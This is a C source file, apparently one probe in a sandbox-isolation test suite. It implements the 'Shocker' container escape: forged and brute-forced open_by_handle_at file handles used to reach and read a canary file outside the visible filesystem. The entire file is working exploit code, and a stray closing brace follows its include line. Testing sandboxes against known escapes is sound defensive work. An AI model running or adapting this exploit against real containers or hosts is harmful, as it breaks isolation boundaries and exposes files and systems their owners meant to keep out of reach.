/* S21: Shocker: name_to_handle_at on the canary and on visible paths, then open_by_handle_at with forged handles (filesystem root inode, brute-forced inode numbers) to walk to the canary outside the view. */
#include "../syscall_prelude.h"
}
struct fh { unsigned int bytes; int type; unsigned char h[128]; };

static int walk_and_read(int rootfd, const char *how)
{
    /* the canary path relative to the filesystem root we got a handle to; also each suffix of it, in
     * case the filesystem root is a sub-directory (e.g. /tmp on its own filesystem) */
    const char *p = CANARY;
    int got = 0;
    while (p && *p && !got) {
        while (*p == '/') p++;
        int fd = openat(rootfd, p, O_RDONLY);
        if (fd >= 0) { got = dump_fd(how, fd); close(fd); }
        p = strchr(p, '/');
    }
    return got;
}

int main(int argc, char **argv)
{
    args(argc, argv);
    struct fh f;
    int mnt = 0;
    /* 1: a handle for the canary itself (needs only search access on the path) */
    memset(&f, 0, sizeof f);
    f.bytes = sizeof f.h;
    long r = rs(SYS_name_to_handle_at, AT_FDCWD, (long)CANARY, (long)&f, (long)&mnt, 0, 0);
    report(r == 0, "name_to_handle_at(canary) %s", en(r));
    /* 2: a handle for something visible on the same filesystem (scratch, /tmp, /) */
    const char *vis[] = {SCRATCH, "/tmp", "/", "/proc/self/exe"};
    int mountfd[4];
    struct fh known[4];
    for (int i = 0; i < 4; i++) {
        mountfd[i] = open(vis[i], O_RDONLY | (i < 3 ? O_DIRECTORY : 0));
        memset(&known[i], 0, sizeof known[i]);
        known[i].bytes = sizeof known[i].h;
        r = rs(SYS_name_to_handle_at, AT_FDCWD, (long)vis[i], (long)&known[i], (long)&mnt, AT_SYMLINK_FOLLOW, 0);
        if (r != 0) known[i].bytes = 0;
        report(r == 0, "name_to_handle_at(%s) %s type=%d bytes=%u", vis[i], en(r), known[i].type, known[i].bytes);
        if (r == 0) {
            /* reopen the genuine handle first */
            long fd = rs(SYS_open_by_handle_at, mountfd[i], (long)&known[i], O_RDONLY, 0, 0, 0);
            report(fd >= 0, "open_by_handle_at(genuine handle of %s) %s", vis[i], en(fd));
            if (fd >= 0) close((int)fd);
        }
    }
    /* 3: the classic forged handle: FILEID_INO32_GEN {ino=2, gen=0} = root of an ext4/xfs filesystem,
     * plus 64-bit-inode layouts (tmpfs/btrfs style), against each mount fd */
    int got = 0;
    for (int i = 0; i < 4 && !got; i++) {
        if (mountfd[i] < 0) continue;
        const int types[] = {1 /*FILEID_INO32_GEN*/, 2 /*INO32_GEN_PARENT*/, 0x81 /*FILEID_INO64_GEN*/};
        for (int t = 0; t < 3 && !got; t++)
            for (unsigned ino = 1; ino <= 130 && !got; ino++) {
                memset(&f, 0, sizeof f);
                f.type = types[t];
                if (types[t] == 0x81) { unsigned long long i64 = ino; memcpy(f.h, &i64, 8); f.bytes = 12; }
                else { memcpy(f.h, &ino, 4); f.bytes = types[t] == 2 ? 16 : 8; }
                long fd = rs(SYS_open_by_handle_at, mountfd[i], (long)&f, O_RDONLY | O_DIRECTORY, 0, 0, 0);
                if (fd == -EPERM && ino == 1) { report(0, "open_by_handle_at(forged, via %s) EPERM", vis[i]); t = 3; break; }
                if (fd >= 0) {
                    report(1, "open_by_handle_at(forged type %d ino %u via %s) opened a directory", types[t], ino, vis[i]);
                    got = walk_and_read((int)fd, "shocker");
                    close((int)fd);
                }
            }
    }
    /* 4: mutate a genuine handle's inode field around its value (sibling inodes: the canary is often near) */
    for (int i = 0; i < 3 && !got; i++) {
        if (known[i].bytes < 4 || mountfd[i] < 0) continue;
        unsigned base;
        memcpy(&base, known[i].h, 4);
        for (int d = -64; d <= 64 && !got; d++) {
            f = known[i];
            unsigned ino = base + d;
            memcpy(f.h, &ino, 4);
            long fd = rs(SYS_open_by_handle_at, mountfd[i], (long)&f, O_RDONLY, 0, 0, 0);
            if (fd >= 0) {
                char b[256] = {0};
                ssize_t n = read((int)fd, b, sizeof b - 1);
                if (n > 0) printf("inode %u via %s: %s\n", ino, vis[i], b);
                close((int)fd);
            }
        }
    }
    report(got, "shocker-read-canary");
    linger();
    return 0;
}
